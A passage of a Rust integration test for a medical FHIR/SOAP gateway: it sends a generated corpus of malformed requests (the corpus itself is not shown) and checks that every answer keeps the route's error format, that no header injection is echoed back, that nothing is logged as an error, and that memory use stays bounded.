                    "connection closed without an answer ({} bytes: {:?})",
                    buf.len(),
                    String::from_utf8_lossy(&buf)
                ));
            }
            continue;
        };
        let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
        let mut lines = head.split("\r\n");
        let status = lines
            .next()
            .and_then(|l| l.split(' ').nth(1))
            .and_then(|c| c.parse().ok())
            .ok_or_else(|| format!("not an HTTP answer: {head:?}"))?;
        let headers: Vec<(String, String)> = lines
            .filter_map(|l| l.split_once(':'))
            .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
            .collect();
        let len = headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
            .and_then(|(_, v)| v.parse::<usize>().ok());
        let have = buf.len() - head_end - 4;
        if len.is_some_and(|l| have >= l) || n == 0 {
            let body = buf[head_end + 4..][..len.unwrap_or(have).min(have)].to_vec();
            return Ok(Answer {
                status,
                headers,
                body,
            });
        }
    }
}

/// The protocol the gateway speaks on a request target (absolute-form included).
fn protocol_of(target: &str) -> Protocol {
    let path = target
        .strip_prefix("http://")
        .map(|rest| &rest[rest.find('/').unwrap_or(rest.len())..])
        .unwrap_or(target);
    let path = path.split('?').next().unwrap_or(path);
    Protocol::of(path, None)
}

/// What a SOAP Fault says: whether the sender is at fault, and its machine code.
fn soap_fault(body: &[u8]) -> Result<(bool, String), String> {
    let root = dom::parse(body, &Limits::default()).map_err(|e| format!("not XML: {e}"))?;
    if root.name != "Envelope" || (root.ns != SOAP11 && root.ns != SOAP12) {
        return Err("not a SOAP envelope".into());
    }
    let f = root
        .path(&["Body", "Fault"])
        .ok_or("a SOAP envelope without a Fault")?;
    let code = f
        .child_text("faultcode")
        .or_else(|| f.path(&["Code", "Value"]).map(|v| v.text.trim()))
        .ok_or("a Fault without a code")?;
    let sender = match code.rsplit(':').next() {
        Some("Client" | "Sender") => true,
        Some("Server" | "Receiver") => false,
        _ => return Err(format!("fault code {code:?}")),
    };
    let detail = f
        .child("detail")
        .or_else(|| f.child("Detail"))
        .and_then(|d| d.path(&["error", "code"]))
        .map(|c| c.text.trim().to_string())
        .filter(|c| !c.is_empty())
        .ok_or("a Fault without mg:error/code")?;
    Ok((sender, detail))
}

/// Checks an answer: no 5xx but SOAP Client faults, errors in the route's format, success
/// answers in the route's format, and only malformed HTTP answered by actix's framing.
fn judge(p: &Probe, a: &Answer) -> Result<(), String> {
    let malformed = matches!(
        p.wire,
        Wire::Raw {
            malformed: true,
            ..
        }
    );
    // actix's own answers to what is not HTTP: bad framing, a head too large, a head that
    // never ends.
    if malformed && a.body.is_empty() && matches!(a.status, 400 | 408 | 413 | 431) {
        return Ok(());
    }
    if a.headers
        .iter()
        .any(|(k, _)| k.to_ascii_lowercase().contains("injected"))
    {
        return Err("a header of the request came back as a response header".into());
    }
    if let Some(want) = p.expect.filter(|w| *w != a.status) {
        return Err(format!("{} where {want} was due: {}", a.status, a.text()));
    }
    if a.header("x-request-id").is_none() {
        return Err(format!("{} without X-Request-Id: {}", a.status, a.text()));
    }
    let protocol = protocol_of(&p.target);
    let json = || {
        serde_json::from_slice::<Value>(&a.body)
            .map_err(|e| format!("not JSON ({e}): {}", a.text()))
    };
    match (a.status, protocol) {
        (200..=299, Protocol::Fhir) => {
            let v = json()?;
            v["resourceType"]
                .as_str()
                .ok_or("a FHIR answer without resourceType")?;
        }
        (200..=299, Protocol::Soap(_)) => {
            dom::parse(&a.body, &Limits::default()).map_err(|e| format!("not XML: {e}"))?;
        }
        (200..=299, Protocol::Api) => {
            if !a.body.is_empty() {
                json()?;
            }
        }
        (200..=299, Protocol::Open) => {}
        // A dashboard form that went through: the browser goes on to its page
        // (post/redirect/get), the designed answer of those routes.
        (303, _) if p.target.starts_with("/admin/") && a.header("location").is_some() => {}
        (400..=599, Protocol::Fhir) => {
            let ct = a.header("content-type").unwrap_or("");
            if !ct.starts_with(FHIR_JSON) {
                return Err(format!("{} as {ct:?}: {}", a.status, a.text()));
            }
            let v = json()?;
            if v["resourceType"] != "OperationOutcome"
                || v["issue"][0]["details"]["coding"][0]["code"]
                    .as_str()
                    .is_none()
            {
                return Err(format!(
                    "{} is not an OperationOutcome: {}",
                    a.status,
                    a.text()
                ));
            }
            // A retry-later answer (the slot's earlier cancellation still on its way, load
            // shed) is the gateway keeping its promises, not mishandled input.
            let retry_later = a.status == 503
                && a.header("retry-after").is_some()
                && v["issue"][0]["code"] == "transient";
            if a.status >= 500 && !retry_later {
                return Err(format!("{}: {}", a.status, a.text()));
            }
        }
        (400..=599, Protocol::Soap(_)) => {
            let (sender, code) =
                soap_fault(&a.body).map_err(|e| format!("{} {e}: {}", a.status, a.text()))?;
            if !sender {
                return Err(format!(
                    "{} a Server/Receiver fault {code}: {}",
                    a.status,
                    a.text()
                ));
            }
        }
        (400..=599, Protocol::Api | Protocol::Open) => {
            let v = json()?;
            if v["error"].as_str().is_none()
                || v["message"].as_str().is_none()
                || v["request_id"].as_str().is_none()
            {
                return Err(format!(
                    "{} is not the JSON error format: {}",
                    a.status,
                    a.text()
                ));
            }
            if a.status >= 500 {
                return Err(format!("{}: {}", a.status, a.text()));
            }
        }
        (s, _) => return Err(format!("unexpected status {s}: {}", a.text())),
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------
// Logs and memory.

/// Warnings and errors logged while the corpus runs, as `level target: fields`.
static LOGGED: Mutex<Vec<String>> = Mutex::new(Vec::new());

struct Capture;

impl<S: tracing::Subscriber> tracing_subscriber::Layer<S> for Capture {
    fn on_event(&self, e: &tracing::Event<'_>, _: tracing_subscriber::layer::Context<'_, S>) {
        // A slow statement on a loaded machine is the machine's, not the input's.
        if *e.metadata().level() > tracing::Level::WARN || e.metadata().target() == "sqlx::query" {
            return;
        }
        struct Fields(String);
        impl tracing::field::Visit for Fields {
            fn record_debug(&mut self, f: &tracing::field::Field, v: &dyn std::fmt::Debug) {
                self.0.push_str(&format!("{}={v:?} ", f.name()));
            }
        }
        let mut fields = Fields(String::new());
        e.record(&mut fields);
        // A retry-later answer (judged above) is logged as a failed request: not the input's.
        if fields.0.contains("message=request failed") && fields.0.contains("status=503") {
            return;
        }
        let line = format!(
            "{} {}: {}",
            e.metadata().level(),
            e.metadata().target(),
            fields.0
        );
        LOGGED.lock().unwrap_or_else(|p| p.into_inner()).push(line);
    }
}

/// Installs the production log filter with a layer that keeps warnings and errors (once per
/// process; nextest runs each test in its own).
fn capture_logs() {
    static ONCE: OnceLock<()> = OnceLock::new();
    ONCE.get_or_init(|| {
        use tracing_subscriber::layer::SubscriberExt;
        use tracing_subscriber::util::SubscriberInitExt;
        let spec = medgate::config::Settings::default().log.filter;
        let filter = medgate::telemetry::filter(&spec).expect("the default filter parses");
        let _ = tracing_subscriber::registry()
            .with(filter)
            .with(Capture)
            .try_init();
    });
}

/// Peak resident memory of this process (the gateway runs in it), in MiB.
fn peak_rss_mb() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb / 1024)
}

// ---------------------------------------------------------------------------------------

async fn hostile_corpus(backend: Backend) {
    capture_logs();
    let fx = Fx::start(backend, |s| {
        matrix_settings(s);
        // Stalled bodies are refused after this; the default minute would only slow the test.
        s.http.body_timeout_secs = 2;
        let mut scopes: Vec<String> = SCOPES.iter().map(|s| s.to_string()).collect();
        scopes.push("remd:callback".into());
        s.clients.push(medgate::config::ClientSettings {
            id: "hostile".into(),
            name: "hostile".into(),
            token_sha256: medgate::config::Secret::new(hex::encode(medgate::auth::token_hash(
                HOSTILE,
            ))),
            organizations: vec![ORG.into()],
            scopes,
            channels: Vec::new(),
            rate: None,
            signing_certificate: None,
            certificate: None,
        });
    })
    .await;
    let r = records(&fx).await;
    let doctor = fx.free(Channel::Internet).await[0].practitioner_id.clone();
    let big = Payloads::new();
    let probes = corpus(&r, &doctor, &big);
    drop(big);
    let addr = fx.t.gw.addr;
    // A connection per probe: none inherits what an earlier one did to its connection.
    let http = reqwest::Client::builder()
        .timeout(PER_REQUEST)
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let mut classes: BTreeMap<&str, usize> = BTreeMap::new();
    for p in &probes {
        *classes.entry(p.class).or_default() += 1;
    }
    let total = probes.len();
    let (heavy, light): (Vec<Probe>, Vec<Probe>) =
        probes.into_iter().partition(|p| p.size() > HEAVY);
    let started = Instant::now();
    let run = |batch: Vec<Probe>, in_flight: usize| {
        let http = http.clone();
        async move {
            futures_util::stream::iter(batch)
                .map(|p| {
                    let http = http.clone();
                    async move {
                        let verdict =
                            match tokio::time::timeout(PER_REQUEST, send(&http, addr, &p)).await {
                                Err(_) => Err(format!("no answer within {PER_REQUEST:?}")),
                                Ok(Err(e)) => Err(e),
                                Ok(Ok(a)) => judge(&p, &a),
                            };
                        verdict.map_err(|e| format!("{}: {e}", p.describe()))
                    }
                })
                .buffer_unordered(in_flight)
                .filter_map(|v| async move { v.err() })
                .collect::<Vec<String>>()
                .await
        }
    };
    let mut failures = run(light, IN_FLIGHT).await;
    failures.extend(run(heavy, 2).await);
    let elapsed = started.elapsed();

    // The gateway is still well.
    for path in ["/healthz", "/readyz"] {
        let res = fx.t.http.get(fx.t.url(path)).send().await.unwrap();
        assert_eq!(res.status(), 200, "{path} after the corpus");
    }
    let (status, slots) = fx
        .get(
            HOSTILE,
            &format!("/fhir/Slot?organization={ORG}&status=free&_count=5"),
        )
        .await;
    assert_eq!(status, 200, "a Slot search after the corpus: {slots}");
    assert_eq!(slots["resourceType"], "Bundle");
    assert!(
        slots["entry"].as_array().is_some_and(|e| !e.is_empty()),
        "{slots}"
    );
    // The corpus's transaction records are written: a batch that fails logs an error.
    fx.t.gw.state.txlog.flush().await;

    let rss = peak_rss_mb();
    eprintln!(
        "hostile corpus on {}: {total} requests in {:.1} s, peak RSS {rss} MiB; by class: {classes:?}",
        backend.name(),
        elapsed.as_secs_f64()
    );
    let logged = std::mem::take(&mut *LOGGED.lock().unwrap_or_else(|p| p.into_inner()));
    fx.sim.stop().await;
    fx.t.stop().await;
    assert!(total >= 1_000, "{total} requests");
    assert!(
        failures.is_empty() && logged.is_empty(),
        "{} of {total} hostile requests were mishandled:\n{}\n\nand they logged {} warnings or errors:\n{}",
        failures.len(),
        failures.iter().take(100).cloned().collect::<Vec<_>>().join("\n"),
        logged.len(),
        logged.iter().take(100).cloned().collect::<Vec<_>>().join("\n")
    );
    assert!(rss > 0 && rss < MAX_RSS_MB, "peak RSS {rss} MiB");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_corpus_postgres() {
    hostile_corpus(Backend::Postgres).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_corpus_sqlite() {
    hostile_corpus(Backend::Sqlite).await
}
